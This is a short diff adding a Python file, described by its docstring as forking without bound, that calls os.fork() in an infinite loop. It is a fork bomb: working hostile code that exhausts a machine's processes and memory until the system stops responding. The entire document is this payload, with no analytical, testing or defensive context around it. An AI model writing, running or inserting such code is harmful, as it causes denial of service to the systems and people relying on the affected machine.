@@ -1,0 +1,6 @@
+"""Forks without bound."""
+
+import os
+
+while True:
+    os.fork()
